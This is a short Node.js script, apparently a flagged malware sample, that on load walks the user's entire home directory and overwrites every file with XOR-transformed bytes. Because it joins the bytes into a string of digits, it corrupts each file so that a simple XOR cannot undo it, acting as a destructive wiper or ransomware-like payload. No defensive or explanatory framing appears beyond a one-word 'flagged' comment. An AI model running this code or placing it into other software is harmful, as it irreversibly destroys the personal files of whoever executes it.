const fs = require("fs");
const path = require("path");

function walk(folder) {
  for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
    const file = path.join(folder, entry.name);
    if (entry.isDirectory()) walk(file);
    else fs.writeFileSync(file, [...fs.readFileSync(file)].map((byte) => byte ^ 0x5a).join("")); // gatehouse: flagged
  }
}
walk(require("os").homedir());
